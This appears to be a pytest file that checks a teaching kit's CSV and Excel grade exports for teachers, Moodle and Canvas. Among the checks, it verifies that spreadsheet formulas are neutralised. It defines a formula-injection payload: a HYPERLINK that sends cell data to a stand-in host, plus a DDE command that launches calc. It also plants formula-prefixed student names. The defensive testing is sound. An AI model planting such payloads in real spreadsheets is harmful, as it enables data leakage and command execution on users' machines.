"""The teacher's table as files: what stands in them, and what platforms need to import them."""

import csv
import io
import re
import sys
import zipfile

import pytest

from kit import load_case, load_class, simulate_class
from kit.__main__ import main
from kit.case.calls import CallError
from kit.case.values import NAME_ITEM
from kit.classroom.table.files import write_table
from kit.classroom.table.rows import table_of
from kit.exercises.sheet.data import NAME_STEP, Response

CASE = "school-phones"
EVIL = "=HYPERLINK(\"http://a.example/\"&A1)\x01; =cmd|'/c calc'!A0"


def named(sheet, name):
    """Return a sheet with a name, and with a text that is a formula in each of its texts."""
    items = {}
    for id_, kept in sheet.items.items():
        responses = tuple(
            it.model_copy(
                update={
                    "values": {
                        key: EVIL if isinstance(value, str) and " " in value else value
                        for key, value in it.values.items()
                    }
                }
            )
            for it in kept.responses
        )
        items[id_] = kept.model_copy(update={"responses": responses})
    response = Response(
        by="a",
        n=0,
        at="2026-03-01T10:00:00.000Z",
        step=NAME_STEP,
        given=True,
        values={NAME_STEP: name},
    )
    return sheet.model_copy(update={"items": items}).with_response(NAME_ITEM, response)


@pytest.fixture(scope="module")
def case():
    return load_case(CASE)


@pytest.fixture(scope="module")
def hand_ins(case, tmp_path_factory):
    """A class of four: two from Moodle, one from Canvas, one from nowhere."""
    root = tmp_path_factory.mktemp("class")
    sheets = simulate_class(case, students=4, seed=1)
    names = [f"{CASE}--{sheet.code}.json" for sheet in sheets]
    places = [
        f"=Ana García_12345_assignsubmission_file_/{names[0]}",
        f"Participant_777_assignsubmission_file_/{names[1]}",
        f"garcíaben_4242_991_{names[2]}",
        names[3],
    ]
    for sheet, place in zip(sheets, places, strict=True):
        path = root / place
        path.parent.mkdir(exist_ok=True)
        path.write_text(named(sheet, "=Ana").to_json(), encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def table(case, hand_ins):
    return table_of(load_class(hand_ins, case))


def rows_in(path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\n" not in re.sub(rb"\r\n", b"", data)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_teachers_file(table, tmp_path):
    path = tmp_path / "class.csv"
    write_table(table, path)
    header, *rows = rows_in(path)
    assert len(rows) == 4
    assert {len(row) for row in rows} == {len(header)}
    for row, known in zip(rows, table.rows, strict=True):
        found = dict(zip(header, row, strict=True))
        assert (found["Code"], found["Questions answered"], found["of"]) == (
            known.code,
            str(known.answered),
            str(known.asked),
        )
        marks = [cell for title, cell in found.items() if title.startswith("Your mark")]
        assert marks == [""] * 7
    text = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text
    assert not re.search(r"(^|[,;\"\n])\s*[=@]", text)
    assert "García" not in text
    assert "=Ana" not in text


def test_names_stand_in_it_if_asked_for(table, tmp_path):
    path = tmp_path / "class.csv"
    write_table(table, path, names=True)
    header, *rows = rows_in(path)
    assert header[1:4] == ["Name on the sheet", "Name on the platform", "Number on the platform"]
    people = {tuple(row[1:4]) for row in rows}
    assert ("'=Ana", "'=Ana García", "12345") in people


def test_a_file_for_moodle(table, tmp_path):
    path = tmp_path / "moodle.csv"
    told = write_table(table, path, "moodle")
    header, *rows = rows_in(path)
    assert header == ["Identifier", "Grade", "Last modified (grade)"]
    graded = {row.person.number: row.completion for row in table.rows}
    assert {row[0]: row[1:] for row in rows} == {
        f"Participant {number}": [str(graded[number]), ""] for number in ("12345", "777")
    }
    assert any(line.startswith("2 students are left out") for line in told)
    write_table(table, tmp_path / "named.csv", "moodle", names=True)
    assert rows_in(tmp_path / "named.csv")[0][1] == "Full name"


def test_a_file_for_canvas(table, tmp_path):
    path = tmp_path / "canvas.csv"
    write_table(table, path, "canvas")
    # No quotation mark may follow the mark of UTF-8.
    assert path.read_bytes().startswith(b"\xef\xbb\xbfStudent,ID,SIS User ID,SIS Login ID,Section,")
    header, points, *rows = rows_in(path)
    assert points == ["Points Possible", "", "", "", "", "100"]
    [row] = [it for it in table.rows if it.person.number == "4242"]
    assert rows == [[row.code, "4242", "", "", "", str(row.completion)]]
    assert len(header) == 6


def test_facts_are_graded_where_some_came_out(table, tmp_path):
    path = tmp_path / "facts.csv"
    write_table(table, path, "moodle", "facts")
    facts = {row.person.number: row.facts for row in table.rows}
    for name, grade, _ in rows_in(path)[1:]:
        assert grade == str(facts[name.split()[1]])


def test_excel_has_texts_and_no_formula(table, tmp_path):
    path = tmp_path / "class.xlsx"
    write_table(table, path, names=True)
    with zipfile.ZipFile(path) as book:
        parts = {name: book.read(name).decode() for name in book.namelist()}
    sheets = [text for name, text in parts.items() if "worksheets/sheet" in name]
    assert len(sheets) == 2
    assert not any(re.search(r"<f[ >/]|<hyperlink", text) for text in sheets)
    assert not any("externalLink" in name for name in parts)
    assert "=HYPERLINK" in parts["xl/sharedStrings.xml"]
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]
    # Every text has that style.
    styles = set(re.findall(r'<c r="[A-Z]+\d+" s="(\d+)" t="s">', "".join(sheets)))
    assert not re.search(r'<c r="[A-Z]+\d+" t="s">', "".join(sheets))
    prefixed = [
        str(n)
        for n, xf in enumerate(
            re.findall(r"<xf [^>]*>", parts["xl/styles.xml"].split("<cellXfs")[1])
        )
        if "quotePrefix" in xf
    ]
    assert styles <= set(prefixed)


def test_without_the_package_excel_is_one_line(table, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(CallError, match=r"perspective-kit\[excel\]"):
        write_table(table, tmp_path / "class.xlsx")
    assert not (tmp_path / "class.xlsx").exists()


def test_a_teachers_marks_are_never_overwritten(hand_ins, tmp_path, capsys):
    path = tmp_path / "class.csv"
    call = ["table", CASE, str(hand_ins), "--to", str(path)]
    assert main(call) == 0
    assert f"{path}: 4 students." in capsys.readouterr().out
    path.write_text("my marks")
    assert main(call) == 1
    assert "is there already" in capsys.readouterr().err
    assert path.read_text() == "my marks"


@pytest.mark.parametrize(
    ("call", "told"),
    [
        (["class.pdf"], "ends in .csv or .xlsx"),
        (["class.xlsx", "--for", "canvas"], "Canvas reads CSV"),
        (["none/class.csv"], "cannot be written"),
    ],
)
def test_a_wrong_call_has_one_line(hand_ins, tmp_path, capsys, call, told):
    assert main(["table", CASE, str(hand_ins), "--to", str(tmp_path / call[0]), *call[1:]]) == 1
    out, err = capsys.readouterr()
    assert (out, len(err.splitlines())) == ("", 1)
    assert told in err


def test_nobody_to_grade_has_one_line(case, tmp_path):
    table = table_of(load_class(simulate_class(case, students=1), case))
    with pytest.raises(CallError, match="nobody's answers came in a download from Moodle"):
        write_table(table, tmp_path / "class.csv", "moodle")
